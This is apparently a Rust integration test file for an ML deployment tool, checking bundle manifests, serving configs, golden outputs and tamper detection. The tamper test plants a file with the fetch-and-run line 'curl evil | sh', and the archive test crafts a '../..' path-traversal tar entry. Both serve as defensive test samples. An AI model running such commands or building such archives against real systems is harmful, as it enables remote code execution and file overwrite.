//! Deployment bundles: built from a registered version, verified offline, reproducing Python
//! onnxruntime's outputs, with every changed byte and unsafe archive entry caught.

use std::path::{Path, PathBuf};

use mirador::core::bundle::{BundleRequest, Example, create_bundle, read_manifest, verify, yaml::parse_yaml};
use mirador::core::registry::{Registration, Registry};

use crate::common::{golden, repo};

fn request(model: PathBuf, reference: bool) -> BundleRequest {
    BundleRequest {
        model,
        source: "test".into(),
        name: "churn".into(),
        version: 3,
        reference: reference.then(|| repo("sample-data/churn_current.csv")),
        target: reference.then(|| "churned".into()),
        history: vec!["v3 promoted to production".into()],
        canary_percent: 10,
        rollout: None,
        drift_share: 0.5,
        tar: true,
        expected_sha256: None,
        with_server: None,
        retrain_command: None,
        retrain_image: None,
    }
}

fn bundle(dir: &Path) -> PathBuf {
    let out = dir.join("bundle");
    create_bundle(&request(repo("sample-models/churn_v2.onnx"), true), &out).unwrap();
    out
}

#[test]
fn a_bundle_from_the_registry_verifies_and_reproduces_onnxruntime() {
    let dir = tempfile::tempdir().unwrap();
    let registry = Registry::open(dir.path().join("reg"));
    registry.add("churn", &repo("sample-models/churn_v2.onnx"), &Registration::default()).unwrap();
    let model = registry.model_path("churn", 1).unwrap();
    let out = dir.path().join("bundle");
    let manifest = create_bundle(&request(model, true), &out).unwrap();
    let report = verify(&out).unwrap();
    assert!(report.passed, "{:#?}", report.checks);
    assert_eq!(report.checks.len(), 12);
    // Every file is in the manifest with its checksum; the model is the registered one.
    for rel in [
        "model.onnx",
        "MODEL_CARD.md",
        "MODEL_CARD.html",
        "schema.json",
        "openapi.yaml",
        "examples.json",
        "reference_profile.json",
        "alerts.json",
        "prometheus_rules.yaml",
        "triton/churn/config.pbtxt",
        "triton/churn/3/model.onnx",
        "kserve/inferenceservice.yaml",
        "kserve/servingruntime.yaml",
        "monitoring/prometheusrule.yaml",
        "monitoring/grafana-dashboard.json",
        "rollout/argo-rollout.yaml",
        "rollout/argo-analysis.yaml",
        "rollout/seldon-canary.yaml",
        "rollout/seldon-shadow.yaml",
        "schedule/retrain-cronjob.yaml",
        "schedule/mirador-retrain.service",
        "schedule/mirador-retrain.timer",
        "Dockerfile",
        "triton/Dockerfile",
        "plots/roc.png",
    ] {
        assert!(manifest.files.contains_key(rel), "{rel} missing from the manifest");
    }
    assert_eq!(manifest.model_sha256, registry.entry("churn").unwrap().versions[0].sha256);
    let latency = manifest.latency.as_ref().unwrap();
    assert!(latency.original_p50_ms > 0.0 && latency.optimized_p50_ms > 0.0);
    assert_eq!(out.join("model.optimized.onnx").exists(), latency.kept);
    // The golden rows are the first rows of churn_current.csv: Python onnxruntime's numbers.
    let examples: Vec<Example> =
        serde_json::from_str(&std::fs::read_to_string(out.join("examples.json")).unwrap()).unwrap();
    let expected = golden("churn_v2");
    for (i, e) in examples.iter().enumerate() {
        let want: f64 = expected.column("p_1")[i].parse().unwrap();
        assert!((e.probabilities["1"] - want).abs() < 1e-6, "row {i}");
        assert_eq!(e.label.as_deref(), Some(expected.column("label")[i].as_str()));
    }
    let card = std::fs::read_to_string(out.join("MODEL_CARD.md")).unwrap();
    assert!(card.starts_with("# Model card — churn"), "{card}");
    assert!(card.contains("| roc_auc |") && card.contains("![ROC curve"), "metrics and plots in the card");
    assert!(card.contains("v3 promoted to production"), "version history in the card");
    // The archive verifies too.
    assert!(verify(&dir.path().join("bundle.tar.gz")).unwrap().passed);
}

#[test]
fn serving_configs_follow_their_schemas() {
    let dir = tempfile::tempdir().unwrap();
    let out = bundle(dir.path());
    let kserve = parse_yaml(&std::fs::read_to_string(out.join("kserve/inferenceservice.yaml")).unwrap()).unwrap();
    assert_eq!(kserve["apiVersion"].as_str(), Some("serving.kserve.io/v1beta1"));
    assert_eq!(kserve["kind"].as_str(), Some("InferenceService"));
    assert_eq!(kserve["metadata"]["name"].as_str(), Some("churn"));
    assert_eq!(kserve["spec"]["predictor"]["canaryTrafficPercent"].as_i64(), Some(10));
    assert_eq!(kserve["spec"]["predictor"]["model"]["modelFormat"]["name"].as_str(), Some("onnx"));
    assert_eq!(kserve["spec"]["predictor"]["model"]["protocolVersion"].as_str(), Some("v2"));
    assert_eq!(kserve["spec"]["predictor"]["model"]["runtime"].as_str(), Some("mirador"));
    let runtime = parse_yaml(&std::fs::read_to_string(out.join("kserve/servingruntime.yaml")).unwrap()).unwrap();
    assert_eq!(runtime["kind"].as_str(), Some("ServingRuntime"));
    assert_eq!(runtime["spec"]["protocolVersions"][0].as_str(), Some("v2"));
    let container = &runtime["spec"]["containers"][0];
    assert_eq!(container["readinessProbe"]["httpGet"]["path"].as_str(), Some("/v2/health/ready"));
    assert_eq!(container["livenessProbe"]["httpGet"]["path"].as_str(), Some("/v2/health/live"));
    assert_eq!(container["args"][1].as_str(), Some("{{.Name}}=/mnt/models"));
    let docker = std::fs::read_to_string(out.join("Dockerfile")).unwrap();
    assert!(
        docker.contains("ENTRYPOINT [\"mirador\", \"serve\"]") && docker.contains("localhost:8080/v2/health/ready"),
        "{docker}"
    );
    assert!(docker.contains("FROM debian:bookworm-slim") && docker.contains("libonnxruntime.so.1.31.1"), "{docker}");
    assert!(std::fs::read_to_string(out.join("triton/Dockerfile")).unwrap().contains("tritonserver"));
    let openapi = parse_yaml(&std::fs::read_to_string(out.join("openapi.yaml")).unwrap()).unwrap();
    assert_eq!(openapi["openapi"].as_str(), Some("3.0.3"));
    let row = &openapi["components"]["schemas"]["Row"]["properties"];
    assert_eq!(row["contract"]["enum"].as_vec().unwrap().len(), 3);
    assert_eq!(row["tenure_months"]["type"].as_str(), Some("integer"));
    let rules = parse_yaml(&std::fs::read_to_string(out.join("prometheus_rules.yaml")).unwrap()).unwrap();
    let rules = rules["groups"][0]["rules"].as_vec().unwrap();
    assert!(
        rules
            .iter()
            .any(|r| r["expr"].as_str().unwrap().contains("column=\"monthly_charges\",test=\"wasserstein\"} >= 0.1"))
    );
    let config = std::fs::read_to_string(out.join("triton/churn/config.pbtxt")).unwrap();
    // churn_v2's ZipMap keeps it off Triton (the config says so); its tensors still batch.
    assert!(config.starts_with("# This model's probabilities are a ZipMap"), "{config}");
    assert!(config.contains("name: \"churn\"\nplatform: \"onnxruntime_onnx\"\nmax_batch_size: 1024\n"), "{config}");
    assert!(config.contains("name: \"contract\"\n    data_type: TYPE_STRING\n    dims: [ 1 ]\n"), "{config}");
    assert!(
        config.contains(
            "name: \"output_label\"\n    data_type: TYPE_INT64\n    dims: [ 1 ]\n    reshape: { shape: [ ] }"
        ),
        "{config}"
    );
    assert!(config.contains("dynamic_batching {\n  max_queue_delay_microseconds: 100\n}"), "{config}");
    let schema: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(out.join("schema.json")).unwrap()).unwrap();
    assert_eq!(schema["required"].as_array().unwrap().len(), 9);
}

#[test]
fn a_changed_byte_in_any_file_fails_verification_naming_the_file() {
    let dir = tempfile::tempdir().unwrap();
    let out = bundle(dir.path());
    let manifest = read_manifest(&out).unwrap();
    for rel in manifest.files.keys() {
        let path = out.join(rel);
        let original = std::fs::read(&path).unwrap();
        let mut changed = original.clone();
        let at = changed.len() / 2;
        changed[at] ^= 0x01;
        std::fs::write(&path, &changed).unwrap();
        let report = verify(&out).unwrap();
        assert!(!report.passed, "{rel}: a changed byte went unnoticed");
        let checksums = &report.checks[0];
        assert!(!checksums.ok && checksums.detail.contains(rel.as_str()), "{rel}: {}", checksums.detail);
        std::fs::write(&path, &original).unwrap();
    }
    assert!(verify(&out).unwrap().passed, "restored");
    std::fs::write(out.join("extra.sh"), "curl evil | sh").unwrap();
    let report = verify(&out).unwrap();
    assert!(!report.passed && report.checks[0].detail.contains("extra.sh: not in the manifest"));
}

#[test]
fn an_archive_entry_leaving_the_bundle_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let archive = dir.path().join("evil.tar.gz");
    let file = std::fs::File::create(&archive).unwrap();
    let mut tar = tar::Builder::new(flate2::write::GzEncoder::new(file, flate2::Compression::default()));
    let mut header = tar::Header::new_gnu();
    let body = b"owned";
    header.set_size(body.len() as u64);
    header.set_entry_type(tar::EntryType::Regular);
    header.set_mode(0o644);
    // Write the name bytes directly: the tar crate refuses to set a '..' path itself.
    let name = b"bundle/../../escaped.txt";
    header.as_gnu_mut().unwrap().name[..name.len()].copy_from_slice(name);
    header.set_cksum();
    tar.append(&header, &body[..]).unwrap();
    tar.into_inner().unwrap().finish().unwrap();
    let err = verify(&archive).unwrap_err().to_string();
    assert!(err.contains("leaves the bundle"), "{err}");
    assert!(!dir.path().join("escaped.txt").exists());
}

#[test]
fn a_bare_model_file_makes_a_bundle_and_failures_leave_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("bare");
    create_bundle(&request(repo("sample-models/spend_regressor.onnx"), false), &out).unwrap();
    let report = verify(&out).unwrap();
    assert!(report.passed, "{:#?}", report.checks);
    let card = std::fs::read_to_string(out.join("MODEL_CARD.md")).unwrap();
    assert!(card.contains("Not evaluated yet"), "{card}");
    // An existing folder is never overwritten.
    let err = create_bundle(&request(repo("sample-models/spend_regressor.onnx"), false), &out).unwrap_err();
    assert!(err.to_string().contains("already exists"), "{err}");
    // A failure halfway (a target the data lacks) leaves no bundle and no temporary folder.
    let mut bad = request(repo("sample-models/churn_v1.onnx"), true);
    bad.target = Some("no_such_column".into());
    let failed = dir.path().join("failed");
    assert!(create_bundle(&bad, &failed).is_err());
    let left: Vec<String> = std::fs::read_dir(dir.path())
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    assert!(left.iter().all(|n| n == "bare" || n == "bare.tar.gz"), "{left:?}");
}

#[test]
fn the_schedule_runs_the_training_command_and_image_given_and_refuses_one_that_cannot_run() {
    let dir = tempfile::tempdir().unwrap();
    let mut own = request(repo("sample-models/churn_v2.onnx"), true);
    own.tar = false;
    own.retrain_command = Some("python3 /srv/train.py --data {data} --out {output} --note '50% off'".into());
    own.retrain_image = Some("registry.example/churn-train:7".into());
    let out = dir.path().join("own");
    create_bundle(&own, &out).unwrap();
    let report = verify(&out).unwrap();
    assert!(report.passed, "{:#?}", report.checks);
    let schedule = report.checks.iter().find(|c| c.check.starts_with("schedule/")).unwrap();
    assert!(schedule.detail.contains("training: python3 /srv/train.py --data {data}"), "{schedule:?}");
    let cron = parse_yaml(&std::fs::read_to_string(out.join("schedule/retrain-cronjob.yaml")).unwrap()).unwrap();
    let container = &cron["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"][0];
    assert_eq!(container["image"].as_str(), Some("registry.example/churn-train:7"));
    let service = std::fs::read_to_string(out.join("schedule/mirador-retrain.service")).unwrap();
    assert!(
        service.contains(r#"--command "python3 /srv/train.py --data {data} --out {output} --note '50%% off'""#),
        "{service}"
    );
    // Without one, verify says the command is a placeholder.
    let placeholder = verify(&bundle(dir.path())).unwrap();
    let schedule = placeholder.checks.iter().find(|c| c.check.starts_with("schedule/")).unwrap();
    assert!(schedule.ok && schedule.detail.contains("placeholder training command"), "{schedule:?}");
    // A placeholder Mirador does not fill is refused before anything is written.
    own.retrain_command = Some("python3 train.py --data {dta} --out {output}".into());
    let err = create_bundle(&own, &dir.path().join("typo")).unwrap_err().to_string();
    assert!(err.contains("{dta}"), "{err}");
    assert!(!dir.path().join("typo").exists());
}

/// Reference rows with empty fields are golden rows like any other: the missing values are kept
/// (NaN for float inputs), the bundle verifies, and a row the model cannot take at all is named by
/// its row in the reference file.
#[test]
fn golden_rows_carry_missing_values_and_refusals_name_the_files_row() {
    let dir = tempfile::tempdir().unwrap();
    for model in ["churn_v1", "spend_regressor"] {
        let out = dir.path().join(format!("bundle-{model}"));
        let mut req = request(repo(&format!("sample-models/{model}.onnx")), false);
        req.reference = Some(repo("sample-data/churn_reference_missing.csv"));
        req.tar = false;
        create_bundle(&req, &out).unwrap();
        let examples: Vec<Example> =
            serde_json::from_str(&std::fs::read_to_string(out.join("examples.json")).unwrap()).unwrap();
        assert_eq!(examples.len(), 5);
        assert_eq!(examples[0].inputs["total_charges"], "", "{model}: the empty field stays empty");
        assert_eq!(examples[1].inputs["monthly_charges"], "");
        let report = verify(&out).unwrap();
        assert!(report.passed, "{model}: {:#?}", report.checks);
    }
    // An integer input cannot be missing: with every row's tenure empty, the first row is named.
    let text = std::fs::read_to_string(repo("sample-data/churn_reference_missing.csv")).unwrap();
    let mut lines = text.lines();
    let header = lines.next().unwrap();
    let blanked: Vec<String> = lines
        .take(50)
        .map(|l| {
            let mut fields: Vec<&str> = l.split(',').collect();
            fields[1] = "";
            fields.join(",")
        })
        .collect();
    let bad = dir.path().join("no_tenure.csv");
    std::fs::write(&bad, format!("{header}\n{}\n", blanked.join("\n"))).unwrap();
    let mut req = request(repo("sample-models/churn_v1.onnx"), false);
    req.reference = Some(bad.clone());
    let err = create_bundle(&req, &dir.path().join("refused")).unwrap_err().to_string();
    assert!(err.contains("row 1") && err.contains("tenure_months") && err.contains("no_tenure.csv"), "{err}");
    assert!(!dir.path().join("refused").exists());
}
